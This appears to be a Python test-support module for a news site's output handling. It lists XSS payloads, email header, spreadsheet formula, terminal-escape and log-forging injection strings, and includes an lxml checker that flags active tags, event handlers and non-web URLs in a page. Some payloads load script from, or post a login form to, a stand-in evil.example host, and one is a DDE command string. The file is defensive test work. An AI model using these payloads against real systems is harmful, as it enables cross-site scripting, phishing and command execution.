"""Texts of the press that want to be more than text, and a reader of pages that finds those that are.

SCRIPTS run or fetch something where they are pasted unescaped into a page. INJECTIONS want to be a header of a mail, a
formula of a spreadsheet, a command of a terminal or a line of a log.
"""

from collections.abc import Iterator
from urllib.parse import urlsplit

import lxml.html

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</p></td></tr></table><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<<script>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src='x' onerror='alert(1)'",
    "<img srcset='https://evil.example/p.gif 1x'>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=Evil></applet>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<div style=\"background-image:url('https://evil.example/p.gif')\">x</div>",
    "<body onload=alert(1)>",
    "<body background=https://evil.example/p.gif>",
    "<table background=https://evil.example/p.gif><tr><td>x</td></tr></table>",
    "<form action=https://evil.example/><input name=mat-khau><button>Đăng nhập</button></form>",
    "<button formaction=javascript:alert(1)>Xem</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video poster=https://evil.example/p.gif></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<a href=javascript:alert(1)>Xem thêm</a>",
    "<a href=' javascript:alert(1)'>Xem thêm</a>",
    "<a href='java&#10;script:alert(1)'>Xem thêm</a>",
    "<a href='&#106;avascript:alert(1)'>Xem thêm</a>",
    "<a href=vbscript:msgbox(1)>Xem thêm</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>Xem thêm</a>",
    "<a href=file:///etc/passwd>Xem thêm</a>",
    "<a href=https://baomau.example/ onclick=alert(1)>Xem thêm</a>",
    "<area href=javascript:alert(1)>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" style="background:url(https://evil.example/p.gif)',
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
)

INJECTIONS = (
    "Tin\r\nBcc: evil@evil.example",
    "Tin\nBcc: evil@evil.example",
    "Tin\rBcc: evil@evil.example",
    "Tin\r\n\r\n<p>Thân thư giả</p>",
    "Tin\x0bBcc: evil@evil.example",
    "Tin\x0cBcc: evil@evil.example",
    "Tin\x85Bcc: evil@evil.example",
    "Tin\u2028Bcc: evil@evil.example\u2029",
    "=?utf-8?q?Tin=0D=0ABcc:_evil@evil.example?=",
    "=?utf-8?b?VGluDQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=",
    "Tin\x00cắt\x1a",
    "a@x.example>, <evil@evil.example",
    '=HYPERLINK("https://evil.example";"bấm vào đây")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    '";=1+1;"',
    "\x1b[2J\x1b[31mđỏ",
    "\x1b]0;tiêu đề khác\x07",
    "\x1b]8;;https://evil.example\x1b\\bấm\x1b]8;;\x1b\\",
    "\x9b31mđỏ",
    "xóa\x08\x08\x08\x7f",
    "\u202enốhk gnôhc\u202c \u2066ngược\u2069",
    "Tin\n2026-10-15 12:00:00,000 ERROR diembao.service: giả",
    "nửa cặp \ud83d",
    "%s %(no)d {0} {title}",
    "[bold red]đỏ[/] [/b]",
    "x" * 5000,
)

_ACTIVE = frozenset(
    {"script", "style", "link", "base", "template", "noscript", "xmp", "iframe", "frame", "frameset", "object", "embed"}
    | {"applet", "svg", "math", "animate", "use", "image", "video", "audio", "source", "marquee", "area", "isindex"}
    | {"form", "input", "button", "textarea", "select", "keygen", "details"}
)
_ADDRESSES = frozenset(
    {"href", "src", "srcset", "action", "formaction", "background", "poster", "data", "xlink:href", "srcdoc", "code"}
)
_STYLES = ("url(", "expression(", "@import", "behavior")


def hits(page: str) -> list[str]:
    """Return what in a page runs, fetches or leads anywhere but to an http, https or mailto address; none is right."""
    return [hit for node in lxml.html.document_fromstring(page).iter() for hit in _hits(node)]


def _hits(node: lxml.html.HtmlElement) -> Iterator[str]:
    if not isinstance(node.tag, str):
        yield f"comment or instruction: {node.text}"
        return
    if node.tag in _ACTIVE:
        yield f"<{node.tag}>"
    if node.tag == "meta" and "http-equiv" in node.attrib:
        yield "<meta http-equiv>"
    for name, value in node.attrib.items():
        if name.startswith("on"):
            yield name
        elif name == "style" and any(part in value.lower() for part in _STYLES):
            yield f"style={value}"
        elif name in _ADDRESSES and not _harmless(node.tag, name, value):
            yield f"{name}={value}"


def _harmless(tag: str, name: str, value: str) -> bool:
    try:
        scheme = urlsplit(value).scheme.lower()
    except ValueError:
        return False
    if (tag, name) == ("img", "src"):
        return scheme == "cid"
    return (tag, name) == ("a", "href") and value.strip() == value and scheme in {"http", "https", "mailto"}
